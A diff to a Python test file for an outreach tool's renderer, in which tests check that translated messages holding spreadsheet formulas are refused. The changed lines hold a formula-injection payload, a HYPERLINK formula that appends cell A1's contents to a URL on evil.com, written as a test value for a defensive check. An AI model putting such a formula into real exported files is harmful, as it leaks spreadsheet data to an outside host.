@@ -24,7 +24,7 @@ from outreach.export import (
 )
 from outreach.render import Renderer
 
-EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Firma") %(url)s %(hashtag)s'
+EVIL = '=HYPERLINK("https://evil.com/?"&A1,"Firma") %(url)s %(hashtag)s'
 # A formula with no link, mention or hidden character: the translation checks pass it, and
 # the spreadsheet guard is what keeps it out of a CSV cell.
 FORMULA = "=SUMA(1;1) Firma: %(url)s %(hashtag)s"
@@ -252,7 +252,7 @@ def test_a_formula_with_a_hijacked_link_is_refused_before_any_format(tmp_path: P
     posts = _plan(root, every="1d", stagger="10m", renderer=renderer)
     assert all((p.post.message, p.post.locale) != ("share", "es") for p in posts)
     problems = renderer.held_back["es"].lines
-    assert any("urls: link https://evil.example/" in p and "link hijack" in p for p in problems)
+    assert any("urls: link https://evil.com/" in p and "link hijack" in p for p in problems)
 
 
 def test_a_leading_mention_is_refused_not_altered(tmp_path: Path) -> None:
